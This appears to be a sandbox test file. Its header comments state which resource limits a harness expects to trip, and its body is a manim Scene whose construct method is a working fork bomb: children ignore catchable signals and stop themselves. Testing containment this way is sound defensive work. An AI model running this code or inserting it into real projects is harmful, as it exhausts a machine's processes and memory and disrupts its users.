"""Forks children that ignore what they can and stop themselves."""
# expect: process_limit memory_limit
# expect basic: process_limit memory_limit time_limit
# job: processes=40 memory_mb=8000 timeout_s=15
# tries: no, it does not live to
# ablation: no, without limits it would fill this machine
import os
import signal

from manim import *


class Attack(Scene):
    def construct(self):
        while True:
            try:
                if os.fork() == 0:
                    for signo in range(1, 32):
                        if signo not in (signal.SIGKILL, signal.SIGSTOP):
                            signal.signal(signo, signal.SIG_IGN)
                    while True:
                        os.kill(os.getpid(), signal.SIGSTOP)
            except OSError:
                pass
